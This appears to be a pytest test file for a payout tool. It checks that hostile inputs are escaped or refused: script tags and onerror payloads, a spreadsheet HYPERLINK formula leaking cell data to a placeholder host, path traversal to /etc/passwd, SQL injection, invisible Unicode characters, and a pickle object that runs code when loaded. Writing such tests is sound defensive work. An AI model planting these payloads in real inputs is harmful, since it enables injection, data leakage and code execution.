"""Hostile input: escaped or refused, nothing executed, no file outside the run touched."""

import csv
import io
import os
import pickle
import re
import subprocess
import sys
from pathlib import Path

import numpy as np
import pyarrow.parquet as pq
import pytest
from payout_files import cents, payments, run, run_by_accuracy, spec, table, units, validation, write

from datamarket_gym.errors import DataMarketError, SubmissionError
from datamarket_gym.payout.names import csv_safe, find_look_alikes, from_csv, visible
from datamarket_gym.payout.run import pay
from datamarket_gym.payout.stored_inputs import Places

SCRIPT = "<script>alert(1)</script>"
NAMES = [
    SCRIPT,
    '=HYPERLINK("http://x.example/?"&A1,"pay me")',
    "../../etc/passwd",
    "x" * 10_000,
    "\u202eesrever\u200b",
    "[bold]rich[/bold] {{ 7*7 }} ${x} </script><img src=x onerror=alert(1)>",
    "'; DROP TABLE payments; --",
    "seller 0\u200b",
]


def hostile():
    columns = units(n=72, identities=9)
    swap = {f"seller {i}": name for i, name in enumerate(NAMES, 1)}
    columns["identity"] = [swap.get(name, name) for name in columns["identity"]]
    columns["id"][0] = SCRIPT
    columns["id"][1] = "=1+1"
    columns["id"][2] = "../../u"
    return columns


@pytest.fixture(scope="module")
def folder(tmp_path_factory):
    return run(tmp_path_factory.mktemp("hostile"), hostile())


def test_names_survive_as_data_and_money_adds_up(folder):
    paid = cents(folder)
    assert set(NAMES) <= set(paid)
    assert sum(paid.values()) == 100_000
    plain = cents(run(folder.parent / "plain", units(n=72, identities=9)))
    assert sorted(paid.values()) == sorted(plain.values())


def test_csv_holds_no_formula_and_can_be_undone(folder):
    csv.field_size_limit(1 << 20)
    with (folder / "payments.csv").open(encoding="utf-8", newline="") as file:
        rows = list(csv.DictReader(file))
    assert not [r for r in rows if r["identity"].startswith(("=", "+", "@", "\t"))]
    assert {from_csv(r["identity"]) for r in rows} == set(payments(folder))
    for name in ("=1", "+1", "-1", "@x", "'x", "plain", "''"):
        assert from_csv(csv_safe(name)) == name
        assert csv_safe(name)[0] not in "=+-@"


def test_the_report_shows_names_and_runs_none(folder):
    page = (folder / "report.html").read_text(encoding="utf-8")
    assert SCRIPT not in page
    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in page
    assert "<img" not in re.sub(r"<script>.*?</script>", "", page, flags=re.S)
    assert "\u202e" not in page
    assert "\u200b" not in re.sub(r"<script>.*?</script>", "", page, flags=re.S)
    assert "{{ 7*7 }}" in page  # shown, not evaluated
    assert "x" * 200 not in re.sub(r"<script>.*?</script>", "", page, flags=re.S)


def test_nothing_is_written_outside_the_run_but_its_ledger(tmp_path):
    before = set(tmp_path.rglob("*"))
    found = run(tmp_path, hostile())
    new = set(tmp_path.rglob("*")) - before
    inputs = {tmp_path / "in", tmp_path / "in" / "units.parquet", tmp_path / "in" / "validation.parquet"}
    ledger = {tmp_path / "ledger.sqlite", tmp_path / "ledger.sqlite.checksum"}
    assert {p for p in new - inputs if p != found and found not in p.parents} == ledger
    assert [p.name for p in found.iterdir() if p.is_dir()] == ["records"]


def test_names_that_read_alike_are_pointed_out(folder):
    assert ["seller 0", "seller 0\u200b"] in find_look_alikes(sorted(payments(folder)))
    assert visible("a\u200bb\u202e") == "a⟨U+200B⟩b⟨U+202E⟩"
    assert "names look alike" in (folder / "report.html").read_text(encoding="utf-8")


@pytest.mark.parametrize("name", ["", "   ", "a\nb", "a\x00b", "a\x1b[31m"])
def test_names_no_file_can_hold_are_refused(name, tmp_path):
    columns = units()
    columns["identity"][3] = name
    with pytest.raises(SubmissionError, match="row 3"):
        run(tmp_path, columns)


def csv_text(columns):
    out = io.StringIO()
    writer = csv.writer(out, lineterminator="\n")
    writer.writerow(["id", "identity", "label", *(f"features_{j}" for j in range(6))])
    for i in range(len(columns["id"])):
        writer.writerow(
            [columns["id"][i], columns["identity"][i], columns["label"][i], *columns["features"][i]]
        )
    return out.getvalue()


def refused(tmp_path, path, match, **changes):
    places = write(tmp_path / "in")
    with pytest.raises(DataMarketError, match=match):
        pay(Places(path, places.validation), spec(**changes), tmp_path / "run")
    assert not (tmp_path / "run" / "payments.csv").exists()


def test_a_csv_with_a_nul_byte_is_refused(tmp_path):
    path = tmp_path / "units.csv"
    path.write_bytes(csv_text(units()).replace("seller 1", "seller\0 1", 1).encode())
    refused(tmp_path, path, "NUL byte")


def test_a_parquet_file_cut_in_half_is_refused(tmp_path):
    path = tmp_path / "units.parquet"
    pq.write_table(table(units()), path)
    path.write_bytes(path.read_bytes()[: path.stat().st_size // 2])
    refused(tmp_path, path, "cannot be read as .parquet")


class Bomb:
    def __reduce__(self):
        return (os.mkdir, ("bomb-went-off",))


@pytest.mark.parametrize("how", ["pickle", "object array", "npz"])
def test_pickles_are_never_opened(how, tmp_path, monkeypatch):
    monkeypatch.chdir(tmp_path)
    path = tmp_path / ("features.npz" if how == "npz" else "features.npy")
    if how == "pickle":
        path.write_bytes(pickle.dumps(Bomb()))
    else:
        array = np.array([[Bomb()]] * 66, dtype=object)
        np.savez(path, features=array) if how == "npz" else np.save(path, array, allow_pickle=True)
    columns = units()
    columns.pop("features")
    source = tmp_path / "units.parquet"
    pq.write_table(table(columns), source)
    refused(tmp_path, source, "never opened", files={"features": str(path)})
    assert not Path("bomb-went-off").exists()


def test_images_outside_their_folder_are_refused(tmp_path):
    (tmp_path / "images").mkdir()
    columns = units()
    columns.pop("features")
    columns["file"] = ["../../../../etc/passwd"] * len(columns["id"])
    source = tmp_path / "units.parquet"
    pq.write_table(table(columns), source)
    refused(
        tmp_path, source, "outside the folder",
        columns={"image": "file"}, files={"images": str(tmp_path / "images")}, encoder="thumbnail",
    )  # fmt: skip


@pytest.mark.parametrize(
    ("change", "match"),
    [
        ({"features": np.full((66, 6), np.nan)}, "features"),
        (
            {"features": np.eye(66, 6, -60) * 1e200 + 1.0},
            "row 60, “u60” of “attacker”: features, entry 0 is 1e.200",
        ),
        ({"features": np.zeros((66, 4))}, "same encoder|features"),
        ({"label": np.zeros(66, dtype=int), "learner": "knn"}, "single class"),
        ({"id": ["same"] * 66}, "appears in rows 0 and 1"),
    ],
)
def test_unusable_tables_are_refused_by_name(change, match, tmp_path):
    columns = {**units(), **change}
    settings = {"learner": columns.pop("learner")} if "learner" in columns else {}
    with pytest.raises(DataMarketError, match=match):
        run(tmp_path, columns, **settings)


def test_data_that_teach_nothing_are_not_divided_by(tmp_path):
    columns, held = units(), validation()
    columns["label"] = (columns["label"] + 1) % 3
    with pytest.raises(DataMarketError, match=r"nothing to divide by.*teach no more than chance"):
        run_by_accuracy(tmp_path, columns, held)


def test_data_that_cover_nothing_are_not_divided_by(tmp_path):
    columns, held = units(), validation()
    columns["features"] = -columns["features"]  # as from another encoder
    with pytest.raises(
        DataMarketError, match=r"nothing to divide by.*no unit is more like a row of its label"
    ):
        run(tmp_path, columns, held)


def test_whoever_stops_a_payout_run_is_named(tmp_path):
    """Mislabelled units that outweigh all others: the error says whose they are."""
    columns, rng = units(copies=0), np.random.default_rng(3)
    label = np.arange(200) % 3
    bad = 2.0 * np.eye(3, 6)[label] + rng.normal(0, 0.3, (200, 6))
    columns = {
        "id": [*columns["id"], *(f"bad {i}" for i in range(200))],
        "identity": [*columns["identity"], *["saboteur"] * 200],
        "label": np.concatenate([columns["label"], (label + 1) % 3]),
        "time": np.arange(260.0),
        "features": np.vstack([columns["features"], bad]),
    }
    with pytest.raises(
        DataMarketError, match="furthest below zero: 'saboteur'; look at their units first"
    ):
        run_by_accuracy(tmp_path, columns)


def test_errors_are_one_line_on_the_command_line(tmp_path):
    places = write(tmp_path / "in")
    done = subprocess.run(
        [sys.executable, "-c", "from datamarket_gym.cli import main; main()", "pay", str(places.submissions),
         "--validation", str(places.validation), "--amount", "1.005", "--out", str(tmp_path / "run")],
        capture_output=True, text=True,
    )  # fmt: skip
    assert done.returncode == 2
    assert done.stderr.strip().count("\n") == 0
    assert "amount" in done.stderr
